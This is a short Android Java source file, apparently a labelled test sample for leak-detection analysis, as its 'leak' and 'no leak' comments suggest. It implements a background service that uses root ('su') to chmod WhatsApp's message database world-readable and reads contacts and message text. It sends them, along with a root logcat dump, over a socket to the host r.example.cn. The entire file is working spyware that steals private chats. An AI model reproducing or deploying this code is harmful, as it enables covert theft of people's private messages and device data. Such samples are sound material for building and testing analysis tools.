package thieves;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.database.sqlite.SQLiteDatabase;
import android.os.IBinder;

import java.io.*;
import java.net.*;

/** Opens another app's database once a shell has made it readable. */
public class RootDb extends Service {
    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public void onStart(Intent i, int id) {
        new Thread() {
            public void run() {
                try {
                    Runtime.getRuntime().exec(new String[] {"su", "-c", "chmod 777 /data/data/com.whatsapp/databases/msgstore.db"}).waitFor();
                    SQLiteDatabase d = SQLiteDatabase.openDatabase("/data/data/com.whatsapp/databases/msgstore.db", null, SQLiteDatabase.OPEN_READONLY);
                    Cursor c = d.rawQuery("select key_remote_jid, data from messages", null);
                    DataOutputStream o = new DataOutputStream(new Socket("r.example.cn", 80).getOutputStream());
                    while (c.moveToNext()) o.writeUTF(c.getString(0) + ":" + c.getString(1)); // leak
                    Process p = Runtime.getRuntime().exec(new String[] {"su", "-c", "logcat -d"});
                    BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
                    for (String l; (l = r.readLine()) != null; ) o.writeUTF(l); // leak
                    Process q = Runtime.getRuntime().exec("date");
                    BufferedReader s = new BufferedReader(new InputStreamReader(q.getInputStream()));
                    o.writeUTF(s.readLine()); // no leak
                } catch (Exception e) {
                }
            }
        }.start();
    }
}
